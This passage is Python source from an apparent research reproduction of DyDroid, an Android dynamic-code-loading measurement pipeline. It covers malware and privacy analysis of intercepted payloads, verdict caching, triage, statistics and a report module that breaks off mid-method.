from repro.runtime.stacktrace import shares_app_package
from repro.triage.tier import TriageDecision, TriageGate, full_pipeline_label

K = TypeVar("K")
V = TypeVar("V")


class LruCache(Generic[K, V]):
    """Bounded mapping with least-recently-used eviction.

    Keyed by payload digest, one entry per *distinct* intercepted binary;
    the bound keeps week-long corpus runs from growing without limit while
    still deduplicating the common SDK payloads that dominate a market.
    """

    def __init__(self, capacity: int) -> None:
        if capacity < 1:
            raise ValueError("capacity must be >= 1")
        self.capacity = capacity
        self._entries: "OrderedDict[K, V]" = OrderedDict()

    def __contains__(self, key: K) -> bool:
        if key in self._entries:
            self._entries.move_to_end(key)
            return True
        return False

    def __getitem__(self, key: K) -> V:
        value = self._entries[key]
        self._entries.move_to_end(key)
        return value

    def __setitem__(self, key: K, value: V) -> None:
        self._entries[key] = value
        self._entries.move_to_end(key)
        while len(self._entries) > self.capacity:
            self._entries.popitem(last=False)

    def __len__(self) -> int:
        return len(self._entries)

    def __bool__(self) -> bool:
        return bool(self._entries)


class DyDroid:
    """The measurement system: analyze one app or a whole corpus."""

    def __init__(
        self,
        config: Optional[DyDroidConfig] = None,
        tracer=None,
        metrics: Optional[MetricsRegistry] = None,
        verdict_store: Union[None, str, Path, VerdictStore] = None,
        events=None,
    ) -> None:
        self.config = config or DyDroidConfig()
        #: span sink; defaults to the zero-cost null tracer.
        self.tracer = tracer if tracer is not None else NULL_TRACER
        #: always-on counters/histograms (cheap; only read when exported).
        self.metrics = metrics if metrics is not None else MetricsRegistry()
        #: structured event sink (store publishes, firewall enforcement);
        #: defaults to the zero-cost null log.
        self.events = events if events is not None else NULL_EVENT_LOG
        #: tier-2 verdict cache, shared across processes.  A path opens a
        #: store this instance owns (and closes); a ready-made instance is
        #: borrowed -- the service shares one store across worker threads.
        self._owns_store = isinstance(verdict_store, (str, Path))
        self.verdict_store: Optional[VerdictStore] = (
            VerdictStore(verdict_store, self.config)
            if self._owns_store
            else verdict_store
        )
        self.decompiler = Decompiler(strict=True)
        self.droidnative = DroidNative(threshold=self.config.droidnative_threshold)
        if self.config.run_malware:
            self.droidnative.train_corpus(
                training_corpus(
                    samples_per_family=self.config.train_samples_per_family,
                    seed=self.config.training_seed,
                )
            )
        capacity = self.config.verdict_cache_capacity
        self._detection_cache: LruCache[str, Optional[Detection]] = LruCache(capacity)
        self._privacy_cache: LruCache[str, tuple] = LruCache(capacity)
        #: tier-0 behavioral-fingerprint gate (None when no model is
        #: configured); consulted per payload after the LRU and the
        #: verdict-store probe both miss.
        self.triage: Optional[TriageGate] = TriageGate.from_config(self.config)

    # -- per-app analysis ------------------------------------------------------------

    def analyze_app(self, record: AppRecord) -> AppAnalysis:
        with self.tracer.span(
            "app", package=record.package, index=record.blueprint.index
        ):
            return self._analyze_app(record)

    def _analyze_app(self, record: AppRecord) -> AppAnalysis:
        analysis = AppAnalysis(
            package=record.package,
            metadata=record.metadata,
            corpus_index=record.blueprint.index,
        )
        self.metrics.counter("pipeline.apps").inc()

        # 1. unpack/decompile (apktool/baksmali stage).
        program: Optional[SmaliProgram] = None
        with stage(self.tracer, self.metrics, "decompile") as span:
            try:
                program = self.decompiler.decompile(record.apk, tracer=self.tracer)
            except DecompilationError:
                span.set(failed=True)
        if program is None:
            analysis.decompile_failed = True
            self.metrics.counter("pipeline.decompile_failed").inc()
            with stage(self.tracer, self.metrics, "obfuscation"):
                analysis.obfuscation = analyze_obfuscation(record.apk, None)
            return analysis

        # 2. prefilter: does DCL-related code exist at all?
        with stage(self.tracer, self.metrics, "prefilter") as span:
            analysis.prefilter = prefilter(program)
            span.set(
                dex=analysis.prefilter.has_dex_dcl,
                native=analysis.prefilter.has_native_dcl,
            )
        if analysis.prefilter.has_any_dcl:
            self.metrics.counter("prefilter.candidates").inc()

        # 3. dynamic analysis for candidates.
        dynamic: Optional[DynamicReport] = None
        if analysis.prefilter.has_any_dcl:
            with stage(self.tracer, self.metrics, "dynamic") as span:
                engine = AppExecutionEngine(
                    self._engine_options(record), tracer=self.tracer
                )
                dynamic = engine.run(record.apk)
                analysis.dynamic = dynamic
                span.set(
                    outcome=dynamic.outcome.value,
                    events_run=dynamic.events_run,
                    intercepted=len(dynamic.intercepted),
                )
            self._count_defense(dynamic)

        # 4. obfuscation profile (native confirmed by the dynamic output).
        with stage(self.tracer, self.metrics, "obfuscation"):
            native_confirmed = bool(dynamic and dynamic.native_loaded)
            analysis.obfuscation = analyze_obfuscation(
                record.apk,
                program,
                dynamic_native_confirmed=native_confirmed
                if analysis.prefilter.has_native_dcl
                else None,
            )

        if dynamic is None or not dynamic.intercepted_any:
            return analysis

        # 4b. tier-0 triage: score the session's behavioral fingerprint
        # once per app; the decision is consulted per payload below, after
        # the LRU and verdict-store probes miss.
        decision: Optional[TriageDecision] = None
        if self.triage is not None:
            with stage(self.tracer, self.metrics, "triage") as span:
                decision = self.triage.assess(record.package, dynamic)
                span.set(
                    probability=round(decision.probability, 4),
                    decided=decision.decided,
                    label=decision.label,
                )
            self.metrics.counter("triage.gated").inc()

        # 5. provenance/entity + static analysis of every intercepted binary.
        # Host-side facts for ecosystem hazard classification, computed
        # once per app: the manifest component table and the classes the
        # host packages in its own dex files.
        component_names = record.apk.manifest.component_names()
        host_classes = {
            cls.name for dex in record.apk.dex_files() for cls in dex.classes
        }
        with stage(
            self.tracer, self.metrics, "verdicts", n_payloads=len(dynamic.intercepted)
        ):
            analysis.payloads = [
                self._verdict_for(
                    payload, record.package, dynamic, decision,
                    component_names=component_names, host_classes=host_classes,
                )
                for payload in dynamic.intercepted
            ]
        if decision is not None:
            if not decision.decided:
                self.metrics.counter("triage.fallthrough").inc()
            elif any(p.verdict_source == "triage" for p in analysis.payloads):
                analysis.verdict_source = "triage"
                self.metrics.counter("triage.hit").inc()
            else:
                # Decided, but every payload resolved from the LRU or the
                # verdict store -- tier 1/2 results always win over tier 0.
                self.metrics.counter("triage.override").inc()

        # 6. code-injection vulnerability classification.
        with stage(self.tracer, self.metrics, "vulnerability") as span:
            analysis.vulnerabilities = classify_loads(
                package=record.package,
                manifest=record.apk.manifest,
                dex_events=dynamic.dcl.dex_events,
                native_events=dynamic.dcl.native_events,
                program=program,
            )
            span.set(findings=len(analysis.vulnerabilities))

        # 5b. online hard-example harvesting: a fall-through ran the full
        # analyzers, so its tier-1 label is free training data.
        if decision is not None and not decision.decided:
            self.triage.harvest(decision, full_pipeline_label(analysis))

        # 7. Table VIII replays for malware-flagged apps.  Triage-decided
        # apps skip replays: a synthetic "suspected" verdict must not
        # trigger tier-1 work the short-circuit exists to avoid.
        if (
            self.config.run_replays
            and analysis.verdict_source != "triage"
            and any(p.is_malicious for p in analysis.payloads)
        ):
            with stage(self.tracer, self.metrics, "replay"):
                analysis.replay_loaded = self._replay(record)
        return analysis

    def _count_defense(self, dynamic: DynamicReport) -> None:
        """Fold one session's enforcement outcomes into ``defense.*`` counters."""
        blocked = 0
        for decision in dynamic.firewall_decisions:
            self.metrics.counter("defense.loads_checked").inc()
            if decision.verdict == "deny":
                self.metrics.counter("defense.loads_denied").inc()
            elif decision.verdict == "quarantine":
                self.metrics.counter("defense.loads_quarantined").inc()
            else:
                continue
            blocked += 1
            self.metrics.counter("defense.rule." + decision.rule).inc()
        if blocked:
            self.metrics.counter("defense.apps_blocked").inc()
        if dynamic.dcl.rejected_events:
            self.metrics.counter("defense.secure_loader_rejections").inc(
                len(dynamic.dcl.rejected_events)
            )

    def _engine_options(self, record: AppRecord) -> EngineOptions:
        return EngineOptions(
            monkey_seed=self.config.monkey_seed,
            monkey_budget=self.config.monkey_budget,
            instruction_budget=self.config.instruction_budget,
            block_file_ops=self.config.block_file_ops,
            release_time_ms=record.release_time_ms,
            companions=record.companions,
            remote_resources=record.remote_resources,
            firewall_policy=self.config.firewall_policy or None,
            quarantine_dir=self.config.quarantine_dir or None,
            verdict_store=self.verdict_store,
            events=self.events,
        )

    def _verdict_for(
        self,
        payload: InterceptedPayload,
        package: str,
        dynamic: DynamicReport,
        decision: Optional[TriageDecision] = None,
        component_names: Optional[Set[str]] = None,
        host_classes: Optional[Set[str]] = None,
    ) -> PayloadVerdict:
        entity = Entity.UNKNOWN
        if payload.call_site:
            entity = (
                Entity.OWN
                if shares_app_package(payload.call_site, package)
                else Entity.THIRD_PARTY
            )
        # One reverse-reachability pass answers both provenance questions:
        # a payload is remote exactly when some URL spec flowed into it.
        sources = tuple(dynamic.tracker.remote_sources(payload.path))
        digest = hashlib.sha256(payload.data).hexdigest()
        verdict = PayloadVerdict(
            path=payload.path,
            kind=payload.kind,
            entity=entity,
            provenance=Provenance.REMOTE if sources else Provenance.LOCAL,
            remote_sources=sources,
            digest=digest,
        )
        verdict.hazards = classify_hazards(
            path=payload.path,
            data=payload.data,
            entity=entity,
            provenance=verdict.provenance,
            remote_sources=sources,
            component_names=component_names or set(),
            host_classes=host_classes or set(),
            app_package=package,
        )
        self.metrics.counter("payload.kind." + payload.kind.value).inc()
        for hazard in verdict.hazards:
            self.metrics.counter("hazard." + hazard).inc()

        with self.tracer.span(
            "payload", digest=digest[:12], kind=payload.kind.value
        ) as span:
            if self.config.run_malware and payload.kind in (
                PayloadKind.DEX,
                PayloadKind.NATIVE,
                PayloadKind.APK,
            ):
                self.metrics.counter("cache.detection.lookups").inc()
                self.metrics.distinct("cache.detection.digests").add(digest)
                if digest not in self._detection_cache:
                    self.metrics.counter("cache.detection.miss").inc()
                    detection, from_triage = self._detect(
                        payload, digest, span, decision
                    )
                    verdict.detection = detection
                    if from_triage:
                        # Tier-0 verdict: never cached, never published --
                        # a misprediction must not outlive this app.
                        verdict.verdict_source = "triage"
                        span.set(triage=True)
                    else:
                        self._detection_cache[digest] = detection
                else:
                    self.metrics.counter("cache.detection.hit").inc()
                    span.set(detection_cached=True)
                    verdict.detection = self._detection_cache[digest]
                if verdict.detection is not None:
                    span.set(malicious=verdict.detection.family)

            if self.config.run_privacy and payload.kind in (
                PayloadKind.DEX,
                PayloadKind.APK,
            ):
                self.metrics.counter("cache.privacy.lookups").inc()
                self.metrics.distinct("cache.privacy.digests").add(digest)
                if digest not in self._privacy_cache:
                    self.metrics.counter("cache.privacy.miss").inc()
                    leaks, from_triage = self._leaks(payload, digest, span, decision)
                    verdict.leaks = leaks
                    if from_triage:
                        verdict.verdict_source = "triage"
                        span.set(triage=True)
                    else:
                        self._privacy_cache[digest] = leaks
                else:
                    self.metrics.counter("cache.privacy.hit").inc()
                    span.set(privacy_cached=True)
                    verdict.leaks = self._privacy_cache[digest]
        return verdict

    def _detect(
        self,
        payload: InterceptedPayload,
        digest: str,
        span,
        decision: Optional[TriageDecision] = None,
    ):
        """Tier-2 probe -> tier-0 gate -> compute -> publish for one
        detection verdict.  Returns ``(detection, from_triage)``; triage
        results are synthesized, not computed, and must not be published.
        """
        if self.verdict_store is not None:
            with stage(self.tracer, self.metrics, "store", tier="detection"):
                found, detection = self.verdict_store.get_detection(digest)
            if found:
                self.metrics.counter("store.detection.hit").inc()
                span.set(detection_stored=True)
                return detection, False
            self.metrics.counter("store.detection.miss").inc()
        if decision is not None and decision.decided:
            self.metrics.counter("triage.analyzers_skipped").inc()
            detection = (
                self.triage.suspected_detection(decision)
                if decision.label == "hazard"
                else None
            )
            return detection, True
        binary = payload.as_dex() or payload.as_native()
        if binary is not None:
            self.metrics.counter("analyzer.droidnative.invocations").inc()
        detection = (
            self.droidnative.detect(binary, tracer=self.tracer)
            if binary is not None
            else None
        )
        if self.verdict_store is not None:
            with stage(self.tracer, self.metrics, "store", tier="detection"):
                self.verdict_store.put_detection(digest, detection)
            self.events.emit(
                "store.publish", tier="detection", digest=digest[:12],
                malicious=detection is not None,
            )
        return detection, False

    def _leaks(
        self,
        payload: InterceptedPayload,
        digest: str,
        span,
        decision: Optional[TriageDecision] = None,
    ):
        """Tier-2 probe -> tier-0 gate -> compute -> publish for one
        privacy verdict.  Returns ``(leaks, from_triage)``.
        """
        if self.verdict_store is not None:
            with stage(self.tracer, self.metrics, "store", tier="privacy"):
                found, leaks = self.verdict_store.get_privacy(digest)
            if found:
                self.metrics.counter("store.privacy.hit").inc()
                span.set(privacy_stored=True)
                return leaks, False
            self.metrics.counter("store.privacy.miss").inc()
        if decision is not None and decision.decided:
            self.metrics.counter("triage.analyzers_skipped").inc()
            return (), True
        dex = payload.as_dex()
        if dex:
            self.metrics.counter("analyzer.flowdroid.invocations").inc()
        leaks = tuple(analyze_dex(dex, tracer=self.tracer)) if dex else ()
        if self.verdict_store is not None:
            with stage(self.tracer, self.metrics, "store", tier="privacy"):
                self.verdict_store.put_privacy(digest, leaks)
            self.events.emit(
                "store.publish", tier="privacy", digest=digest[:12],
                leaks=len(leaks),
            )
        return leaks, False

    def close(self) -> None:
        """Release the verdict store if this pipeline opened it from a path."""
        if self._owns_store and self.verdict_store is not None:
            self.verdict_store.close()

    def _replay(self, record: AppRecord) -> Dict[str, Set[str]]:
        """Which paths load under each Table VIII environment config."""
        engine = AppExecutionEngine(self._engine_options(record))
        results = engine.replay_under_configs(
            record.apk, self.config.replay_configs
        )
        return {
            name: set(report.intercepted_paths()) for name, report in results.items()
        }

    # -- corpus-level measurement ----------------------------------------------------------

    def measure(self, corpus: Sequence[AppRecord]) -> MeasurementReport:
        """Analyze every app and aggregate the paper's tables."""
        return MeasurementReport(apps=[self.analyze_app(record) for record in corpus])
