"""Pipeline configuration."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Tuple

from repro.runtime.device import TABLE_VIII_CONFIGS, EnvironmentConfig


@dataclass
class DyDroidConfig:
    """Knobs for one measurement run; defaults mirror the paper's setup."""

    #: Monkey seed and per-app event budget.
    monkey_seed: int = 0
    monkey_budget: int = 25
    #: per-entry-point instruction budget in the VM.
    instruction_budget: int = 200_000
    #: DroidNative ACFG match threshold (the paper uses 90%).
    droidnative_threshold: float = 0.90
    #: training samples generated per malware family (65 ~= the paper's
    #: 1,240 samples over 19 families; benches default lower for speed).
    train_samples_per_family: int = 4
    #: training corpus seed.
    training_seed: int = 0
    #: mutual exclusion on File.delete/renameTo (ablation switch).
    block_file_ops: bool = True
    #: replay malware-flagged apps under these environments (Table VIII).
    replay_configs: Tuple[EnvironmentConfig, ...] = TABLE_VIII_CONFIGS
    #: whether to run the Table VIII replays at all.
    run_replays: bool = True
    #: run the FlowDroid-style privacy analysis on intercepted DEX.
    run_privacy: bool = True
    #: run DroidNative on intercepted payloads.
    run_malware: bool = True
    #: LRU bound (distinct payload digests) on the per-run detection and
    #: privacy verdict caches, so unbounded corpus runs stay bounded in
    #: memory.
    verdict_cache_capacity: int = 4096
    #: named enforcement policy for the inline DCL firewall
    #: (:data:`repro.defense.firewall.POLICIES`); "" analyzes without
    #: enforcement.  Deliberately NOT part of the verdict-store
    #: fingerprint -- payload verdicts are the same whether or not loads
    #: were blocked, so warm stores stay valid across both modes.
    firewall_policy: str = ""
    #: directory where QUARANTINE verdicts preserve payload bytes.
    quarantine_dir: str = ""
    #: path to a trained tier-0 triage model (:mod:`repro.triage`); ""
    #: disables the gate.  Like ``firewall_policy``, deliberately NOT part
    #: of the verdict-store fingerprint -- triage never publishes verdicts,
    #: so stored tier-1 results stay valid with or without the gate.
    triage_model: str = ""
    #: confidence bar for tier-0 short-circuits; 0.0 means "use the
    #: gate's default" (:data:`repro.triage.tier.DEFAULT_THRESHOLD`).
    triage_threshold: float = 0.0
