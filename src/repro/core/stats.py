"""Statistical backing for the measurement claims.

Table III reports group means and the paper carefully notes "we cannot
assert there is any causal relation between usage of DCL and application
reputation".  This module quantifies the *association* properly:

- :func:`popularity_association` -- Mann-Whitney U (one-sided) on the
  download/rating distributions of DCL apps vs their complements, which is
  the right test for heavy-tailed popularity data where means mislead;
- :func:`category_concentration` -- a chi-square goodness-of-fit check that
  packed apps concentrate in the Figure 3 categories rather than spreading
  uniformly;
- :func:`rate_confidence_interval` -- Wilson intervals for the per-table
  proportions, so scaled-corpus numbers come with honest error bars.
"""

from __future__ import annotations

import math
from dataclasses import dataclass
from typing import Dict, List, Sequence, Tuple

from repro.core.report import MeasurementReport


@dataclass(frozen=True)
class AssociationResult:
    """One Mann-Whitney comparison between a DCL group and its complement."""

    metric: str
    group: str
    n_group: int
    n_complement: int
    group_mean: float
    complement_mean: float
    u_statistic: float
    p_value: float

    @property
    def significant(self) -> bool:
        return self.p_value < 0.05


def _mann_whitney_greater(a: Sequence[float], b: Sequence[float]) -> Tuple[float, float]:
    """U statistic and one-sided p-value for H1: a stochastically > b.

    Uses scipy when available; falls back to the normal approximation so the
    library degrades gracefully without it.
    """
    try:
        from scipy.stats import mannwhitneyu

        result = mannwhitneyu(list(a), list(b), alternative="greater")
        return float(result.statistic), float(result.pvalue)
    except ImportError:  # pragma: no cover - scipy ships in the dev env
        return _mann_whitney_normal_approx(a, b)


def _mann_whitney_normal_approx(a: Sequence[float], b: Sequence[float]) -> Tuple[float, float]:
    pooled = sorted((value, 0) for value in a) + sorted((value, 1) for value in b)
    pooled.sort(key=lambda pair: pair[0])
    ranks: Dict[int, float] = {}
    rank_sum_a = 0.0
    index = 0
    while index < len(pooled):
        tail = index
        while tail + 1 < len(pooled) and pooled[tail + 1][0] == pooled[index][0]:
            tail += 1
        average_rank = (index + tail) / 2.0 + 1.0
        for position in range(index, tail + 1):
            if pooled[position][1] == 0:
                rank_sum_a += average_rank
        index = tail + 1
    n_a, n_b = len(a), len(b)
    u = rank_sum_a - n_a * (n_a + 1) / 2.0
    mean_u = n_a * n_b / 2.0
    std_u = math.sqrt(n_a * n_b * (n_a + n_b + 1) / 12.0) or 1.0
    z = (u - mean_u) / std_u
    p = 0.5 * math.erfc(z / math.sqrt(2.0))
    return u, p


def popularity_association(report: MeasurementReport) -> List[AssociationResult]:
    """Mann-Whitney tests for Table III's 'DCL apps are more popular'."""
    results: List[AssociationResult] = []
    groups = {
        "DEX": lambda a: a.has_dex_dcl_code,
        "Native": lambda a: a.has_native_dcl_code,
    }
    metrics = {
        "downloads": lambda a: float(a.metadata.downloads),
        "n_ratings": lambda a: float(a.metadata.n_ratings),
    }
    for group_name, predicate in groups.items():
        in_group = [a for a in report.apps if predicate(a)]
        complement = [a for a in report.apps if not predicate(a)]
        if not in_group or not complement:
            continue
        for metric_name, extract in metrics.items():
            sample_a = [extract(a) for a in in_group]
            sample_b = [extract(a) for a in complement]
            u, p = _mann_whitney_greater(sample_a, sample_b)
            results.append(
                AssociationResult(
                    metric=metric_name,
                    group=group_name,
                    n_group=len(sample_a),
                    n_complement=len(sample_b),
                    group_mean=sum(sample_a) / len(sample_a),
                    complement_mean=sum(sample_b) / len(sample_b),
                    u_statistic=u,
                    p_value=p,
                )
            )
    return results


def category_concentration(
    report: MeasurementReport, dominant: Sequence[str] = ("Entertainment", "Tools", "Shopping")
) -> Tuple[float, float]:
    """Chi-square: packed apps concentrate in the dominant categories.

    H0: a packed app lands in the dominant categories at the base rate
    those categories hold in the whole corpus.  Returns (chi2, p).
    """
    packed = [
        a for a in report.apps if a.obfuscation and a.obfuscation.dex_encryption
    ]
    if not packed:
        return 0.0, 1.0
    total = len(report.apps)
    base_rate = (
        sum(1 for a in report.apps if a.metadata.category in dominant) / total
        if total
        else 0.0
    )
    observed_in = sum(1 for a in packed if a.metadata.category in dominant)
    observed = [observed_in, len(packed) - observed_in]
    expected = [len(packed) * base_rate, len(packed) * (1 - base_rate)]
    chi2 = sum(
        (obs - exp) ** 2 / exp for obs, exp in zip(observed, expected) if exp > 0
    )
    # 1 degree of freedom: p = erfc(sqrt(chi2/2)).
    p = math.erfc(math.sqrt(chi2 / 2.0))
    return chi2, p


def rate_confidence_interval(
    successes: int, total: int, z: float = 1.96
) -> Tuple[float, float]:
    """Wilson score interval for a measured proportion."""
    if total == 0:
        return 0.0, 1.0
    phat = successes / total
    denominator = 1 + z * z / total
    center = (phat + z * z / (2 * total)) / denominator
    margin = (
        z
        * math.sqrt(phat * (1 - phat) / total + z * z / (4 * total * total))
        / denominator
    )
    return max(0.0, center - margin), min(1.0, center + margin)
