"""The DyDroid orchestrator and measurement reporting.

- :mod:`repro.core.config` -- pipeline configuration;
- :mod:`repro.core.pipeline` -- :class:`~repro.core.pipeline.DyDroid`, which
  chains the paper's Figure 1 stages per app: decompile -> prefilter ->
  dynamic analysis -> provenance/entity -> malware + privacy static
  analysis -> vulnerability -> obfuscation, plus the Table VIII replays;
- :mod:`repro.core.report` -- per-app results aggregated into every table
  and figure of the evaluation section.
"""

from repro.core.config import DyDroidConfig
from repro.core.pipeline import AppAnalysis, DyDroid
from repro.core.report import MeasurementReport
from repro.core.stats import (
    category_concentration,
    popularity_association,
    rate_confidence_interval,
)

__all__ = [
    "AppAnalysis",
    "DyDroid",
    "DyDroidConfig",
    "MeasurementReport",
    "category_concentration",
    "popularity_association",
    "rate_confidence_interval",
]
