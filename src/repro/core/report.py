"""Per-app analysis results and their aggregation into the paper's tables.

:class:`AppAnalysis` is everything DyDroid concluded about one app;
:class:`MeasurementReport` aggregates a corpus worth of them and exposes
one method per table/figure of the evaluation section (II-X plus Figure 3),
each with a ``render_*`` twin producing the paper-style text block.

Every per-app result is round-trippable through plain JSON data
(``to_dict``/``from_dict``), which is what the analysis farm
(:mod:`repro.farm`) ships across process boundaries and appends to its
checkpoint journal.  A deserialized app carries a :class:`DynamicDigest`
in place of the live :class:`DynamicReport`; the digest preserves exactly
what the tables consume, so a merged report renders byte-identically to
the serial run.
"""

from __future__ import annotations

from dataclasses import dataclass, field, fields
from typing import Dict, Iterable, List, Optional, Sequence, Set, Tuple, Union

from repro.corpus.metadata import AppMetadata
from repro.dynamic.engine import DynamicOutcome, DynamicReport
from repro.dynamic.interceptor import PayloadKind
from repro.dynamic.provenance import Entity, Provenance
from repro.static_analysis.malware.droidnative import Detection
from repro.static_analysis.obfuscation.detector import ObfuscationProfile
from repro.static_analysis.prefilter import PrefilterResult
from repro.static_analysis.privacy.flowdroid import PrivacyLeak
from repro.static_analysis.privacy.sources import DATA_TYPE_CATEGORY, DATA_TYPES
from repro.static_analysis.vulnerability import RiskyLoadCategory, VulnerabilityFinding

#: bump when the ``to_dict``/``from_dict`` shape changes incompatibly.
SERIALIZATION_VERSION = 1


def _plain_dict(instance) -> Dict[str, object]:
    """Shallow dataclass -> dict for types whose fields are all JSON-plain."""
    return {f.name: getattr(instance, f.name) for f in fields(instance)}


@dataclass
class DynamicDigest:
    """JSON-safe summary of a :class:`DynamicReport`.

    Keeps exactly the dynamic-analysis facts the tables consume (outcome
    bucket, whether DEX/native loads fired, session counters) without the
    live session objects (DCL event lists, flow graph, payload bytes),
    which makes a deserialized :class:`AppAnalysis` aggregate identically
    to one fresh out of the pipeline.
    """

    outcome: DynamicOutcome
    environment: str = ""
    rewritten: bool = False
    events_run: int = 0
    crash_reason: Optional[str] = None
    dex_loaded: bool = False
    native_loaded: bool = False
    storage_cleanups: int = 0
    methods_total: int = 0
    methods_executed: int = 0
    #: enforcement policy in effect ("" = firewall off) and the firewall's
    #: per-load audit trail, as plain dicts (see
    #: :class:`repro.defense.firewall.FirewallDecision`).
    firewall_policy: str = ""
    firewall_decisions: List[Dict[str, str]] = field(default_factory=list)
    loads_denied: int = 0
    loads_quarantined: int = 0
    #: developer-side secure-loader refusals observed during the session.
    loads_rejected: int = 0

    @classmethod
    def from_report(cls, report: "DynamicLike") -> "DynamicDigest":
        if isinstance(report, cls):
            return report
        return cls(
            outcome=report.outcome,
            environment=report.environment,
            rewritten=report.rewritten,
            events_run=report.events_run,
            crash_reason=report.crash_reason,
            dex_loaded=report.dex_loaded,
            native_loaded=report.native_loaded,
            storage_cleanups=report.storage_cleanups,
            methods_total=report.methods_total,
            methods_executed=report.methods_executed,
            firewall_policy=report.firewall_policy,
            firewall_decisions=[d.to_dict() for d in report.firewall_decisions],
            loads_denied=report.loads_denied,
            loads_quarantined=report.loads_quarantined,
            loads_rejected=len(report.dcl.rejected_events),
        )

    def to_dict(self) -> Dict[str, object]:
        data = _plain_dict(self)
        data["outcome"] = self.outcome.value
        return data

    @classmethod
    def from_dict(cls, data: Dict[str, object]) -> "DynamicDigest":
        data = dict(data)
        data["outcome"] = DynamicOutcome(data["outcome"])
        # records predating the defense subsystem lack these fields.
        data.setdefault("firewall_policy", "")
        data.setdefault("firewall_decisions", [])
        data.setdefault("loads_denied", 0)
        data.setdefault("loads_quarantined", 0)
        data.setdefault("loads_rejected", 0)
        return cls(**data)


#: what :attr:`AppAnalysis.dynamic` may hold: the live session report from
#: the pipeline, or its digest after a serialization round trip.
DynamicLike = Union[DynamicReport, DynamicDigest]


def _detection_to_dict(detection: Detection) -> Dict[str, object]:
    return _plain_dict(detection)


def _detection_from_dict(data: Dict[str, object]) -> Detection:
    return Detection(**data)


def _leak_from_dict(data: Dict[str, object]) -> PrivacyLeak:
    return PrivacyLeak(**data)


def _finding_to_dict(finding: VulnerabilityFinding) -> Dict[str, object]:
    data = _plain_dict(finding)
    data["category"] = finding.category.value
    return data


def _finding_from_dict(data: Dict[str, object]) -> VulnerabilityFinding:
    data = dict(data)
    data["category"] = RiskyLoadCategory(data["category"])
    return VulnerabilityFinding(**data)


def _prefilter_from_dict(data: Dict[str, object]) -> PrefilterResult:
    return PrefilterResult(**data)


@dataclass
class PayloadVerdict:
    """Static-analysis outcome for one intercepted binary."""

    path: str
    kind: PayloadKind
    entity: Entity
    provenance: Provenance
    remote_sources: Tuple[str, ...] = ()
    detection: Optional[Detection] = None
    leaks: Tuple[PrivacyLeak, ...] = ()
    #: sha256 of the payload bytes; the cross-version identity the
    #: evolution differ tracks (empty on records predating this field).
    digest: str = ""
    #: ecosystem hazard classes this payload triggered (see
    #: :mod:`repro.ecosystems.hazards`); empty for classic-landscape loads
    #: and on records predating the scenario pack.
    hazards: Tuple[str, ...] = ()
    #: who produced the analysis verdict: "full" = tier-1 analyzers (or
    #: the caches/store fed by them), "triage" = the tier-0 gate
    #: short-circuited them (:mod:`repro.triage`).
    verdict_source: str = "full"

    @property
    def is_malicious(self) -> bool:
        return self.detection is not None

    def to_dict(self) -> Dict[str, object]:
        return {
            "path": self.path,
            "kind": self.kind.value,
            "entity": self.entity.value,
            "provenance": self.provenance.value,
            "remote_sources": list(self.remote_sources),
            "detection": _detection_to_dict(self.detection) if self.detection else None,
            "leaks": [_plain_dict(leak) for leak in self.leaks],
            "digest": self.digest,
            "hazards": list(self.hazards),
            "verdict_source": self.verdict_source,
        }

    @classmethod
    def from_dict(cls, data: Dict[str, object]) -> "PayloadVerdict":
        return cls(
            path=data["path"],
            kind=PayloadKind(data["kind"]),
            entity=Entity(data["entity"]),
            provenance=Provenance(data["provenance"]),
            remote_sources=tuple(data["remote_sources"]),
            detection=_detection_from_dict(data["detection"]) if data["detection"] else None,
            leaks=tuple(_leak_from_dict(leak) for leak in data["leaks"]),
            digest=data.get("digest", ""),
            hazards=tuple(data.get("hazards", ())),
            verdict_source=data.get("verdict_source", "full"),
        )


@dataclass
class AppAnalysis:
    """Everything DyDroid concluded about one app."""

    package: str
    metadata: AppMetadata
    decompile_failed: bool = False
    prefilter: Optional[PrefilterResult] = None
    obfuscation: Optional[ObfuscationProfile] = None
    dynamic: Optional[DynamicLike] = None
    payloads: List[PayloadVerdict] = field(default_factory=list)
    vulnerabilities: List[VulnerabilityFinding] = field(default_factory=list)
    #: Table VIII: environment name -> malicious paths loaded in that replay.
    replay_loaded: Dict[str, Set[str]] = field(default_factory=dict)
    #: position in the generated corpus; the farm's merge key.  -1 for
    #: analyses built outside a corpus run (hand-made, unit tests).
    corpus_index: int = -1
    #: "triage" when the tier-0 gate short-circuited at least one payload
    #: verdict for this app, else "full"; keeps cheap predictions from
    #: being conflated with analyzer results anywhere downstream.
    verdict_source: str = "full"

    # -- derived views -----------------------------------------------------------

    @property
    def version_code(self) -> int:
        return self.metadata.version_code

    @property
    def has_dex_dcl_code(self) -> bool:
        return bool(self.prefilter and self.prefilter.has_dex_dcl)

    @property
    def has_native_dcl_code(self) -> bool:
        return bool(self.prefilter and self.prefilter.has_native_dcl)

    @property
    def outcome(self) -> Optional[DynamicOutcome]:
        return self.dynamic.outcome if self.dynamic else None

    @property
    def exercised(self) -> bool:
        return self.outcome is DynamicOutcome.EXERCISED

    @property
    def dex_intercepted(self) -> bool:
        return self.exercised and bool(self.dynamic and self.dynamic.dex_loaded)

    @property
    def native_intercepted(self) -> bool:
        return self.exercised and bool(self.dynamic and self.dynamic.native_loaded)

    def dex_entities(self) -> Set[Entity]:
        return {
            p.entity
            for p in self.payloads
            if p.kind
            in (PayloadKind.DEX, PayloadKind.ENCRYPTED, PayloadKind.APK, PayloadKind.UNKNOWN)
            and p.entity is not Entity.UNKNOWN
        }

    def native_entities(self) -> Set[Entity]:
        return {
            p.entity
            for p in self.payloads
            if p.kind is PayloadKind.NATIVE and p.entity is not Entity.UNKNOWN
        }

    def remote_payloads(self) -> List[PayloadVerdict]:
        return [p for p in self.payloads if p.provenance is Provenance.REMOTE]

    def malicious_payloads(self) -> List[PayloadVerdict]:
        return [p for p in self.payloads if p.is_malicious]

    def leaked_types(self) -> Dict[str, Set[Entity]]:
        """data type -> entities of the payloads leaking it."""
        result: Dict[str, Set[Entity]] = {}
        for payload in self.payloads:
            for leak in payload.leaks:
                result.setdefault(leak.data_type, set()).add(payload.entity)
        return result

    # -- serialization -----------------------------------------------------------

    def to_dict(self) -> Dict[str, object]:
        """JSON-plain form preserving everything the tables consume."""
        return {
            "package": self.package,
            "corpus_index": self.corpus_index,
            "metadata": _plain_dict(self.metadata),
            "decompile_failed": self.decompile_failed,
            "prefilter": _plain_dict(self.prefilter) if self.prefilter else None,
            "obfuscation": _plain_dict(self.obfuscation) if self.obfuscation else None,
            "dynamic": DynamicDigest.from_report(self.dynamic).to_dict()
            if self.dynamic
